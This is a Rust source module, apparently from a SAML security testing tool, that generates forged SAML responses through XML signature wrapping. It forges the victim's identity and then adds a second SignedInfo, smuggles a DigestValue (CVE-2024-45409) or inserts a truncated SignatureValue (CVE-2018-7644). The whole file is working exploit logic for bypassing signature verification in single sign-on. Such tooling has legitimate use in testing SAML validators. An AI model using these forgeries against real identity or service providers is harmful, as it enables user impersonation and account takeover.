//! Confusions about which SignedInfo, which digest and which value of a signature count. The genuine ones stay in the document.

use super::document::{Document, missing};
use super::place::append;
use super::signature::Signature;
use super::uncovered::UnsignedPlace;
use super::{Attacker, OtherSignedInfo};
use crate::WireError;
use crate::names::DSIG;
use crate::tree::Edits;

/// The victim's name, and in every signature a second SignedInfo with the digest that this gives.
pub(super) fn second(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    place: OtherSignedInfo,
) -> Result<String, WireError> {
    each_signature(document, attacker, |document, signature| {
        let mut forged = Edits::default();
        let digest = document.tree.content(signature.digest_value);
        forged.replace(digest.ok_or_else(|| missing("digest"))?, signature.digest(document)?);
        let genuine = document.tree.range(signature.signed_info);
        let markup = document.tree.markup(signature.signed_info).to_owned();
        let mut edits = Edits::default();
        match place {
            OtherSignedInfo::First => {
                edits.insert(genuine.start, forged.apply_to(document.xml, genuine));
            }
            OtherSignedInfo::Last => {
                edits.insert(genuine.end, forged.apply_to(document.xml, genuine));
            }
            OtherSignedInfo::Nested => {
                append(document, &mut forged, signature.signed_info, &markup);
                edits.replace(genuine.clone(), forged.apply_to(document.xml, genuine));
            }
        }
        Ok(edits)
    })
}

/// The victim's name, and the digest that this gives in a DigestValue before the signed one (CVE-2024-45409).
pub(super) fn smuggled_digest(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    place: UnsignedPlace,
) -> Result<String, WireError> {
    document.signed_assertion()?;
    let mut forged = Edits::default();
    document.forge(&mut forged, attacker)?;
    document.unsign_response(&mut forged);
    let xml = forged.apply(document.xml);
    let document = Document::read(&xml)?;
    let digest = Signature::read(&document, document.signed_assertion()?)?.digest(&document)?;
    let value = format!(r#"<x:DigestValue xmlns:x="{DSIG}">{digest}</x:DigestValue>"#);
    let mut edits = Edits::default();
    place.park(&document, &mut edits, &value)?;
    Ok(edits.apply(&xml))
}

/// The victim's name and the digest that this gives, and a SignatureValue that is too short to be one (CVE-2018-7644).
pub(super) fn malformed_value(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
) -> Result<String, WireError> {
    each_signature(document, attacker, |document, signature| {
        let mut edits = Edits::default();
        let places = [signature.digest_value, signature.signature_value];
        for (place, text) in places.into_iter().zip([signature.digest(document)?, "AA==".into()]) {
            edits.replace(document.tree.content(place).ok_or_else(|| missing("value"))?, text);
        }
        Ok(edits)
    })
}

/// Forges the names, and then changes one signature after the other.
pub(super) fn each_signature(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    change: impl Fn(&Document<'_>, &Signature) -> Result<Edits, WireError>,
) -> Result<String, WireError> {
    every_signature(document.forged(attacker)?, change)
}

/// Changes one signature after the other: a digest of the Response covers the assertion's.
pub(super) fn every_signature(
    xml: String,
    change: impl Fn(&Document<'_>, &Signature) -> Result<Edits, WireError>,
) -> Result<String, WireError> {
    let count = Document::read(&xml)?.signed_elements()?.len();
    (0..count).try_fold(xml, |xml, index| {
        let document = Document::read(&xml)?;
        let signature = Signature::read(&document, document.signed_elements()?[index])?;
        Ok(change(&document, &signature)?.apply(&xml))
    })
}
